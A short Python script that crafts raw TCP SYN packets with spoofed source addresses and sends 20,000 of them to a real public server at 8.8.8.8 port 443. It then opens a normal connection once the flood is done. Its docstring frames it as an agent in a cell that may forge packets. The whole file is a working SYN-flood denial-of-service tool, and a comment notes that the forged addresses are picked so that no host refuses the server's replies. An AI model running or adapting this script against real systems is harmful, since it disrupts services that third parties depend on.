"""Runs in a cell as an agent that may forge packets: handshakes without end, then an honest one."""

import random
import socket
import struct
import time

SYNS = 20_000
PAYLOAD = b"after the flood"
SERVER = ("8.8.8.8", 443)


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    folded: int = ~(total + (total >> 16)) & 0xFFFF
    return folded


def syn(source: bytes, port: int, number: int) -> bytes:
    """The first packet of a connection, with its IPv4 header."""
    target = socket.inet_aton(SERVER[0])
    head = struct.pack("!HHIIBBHHH", port, SERVER[1], number, 0, 5 << 4, 2, 64240, 0, 0)
    total = checksum(source + target + struct.pack("!BBH", 0, 6, len(head)) + head)
    head = head[:16] + struct.pack("!H", total) + head[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, target) + head


def main() -> None:
    chance = random.Random(1)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(SYNS):
            # Neighbours that do not exist: nobody there refuses the answer.
            source = bytes([10, 0, 2, chance.randrange(16, 255)])
            packet = syn(source, chance.randrange(1024, 65536), chance.getrandbits(32))
            raw.sendto(packet, SERVER)
    deadline = time.monotonic() + 20
    while True:
        try:
            with socket.create_connection(SERVER, 5) as connection:
                connection.sendall(PAYLOAD)
            break
        except OSError:
            if time.monotonic() > deadline:
                raise


if __name__ == "__main__":
    main()
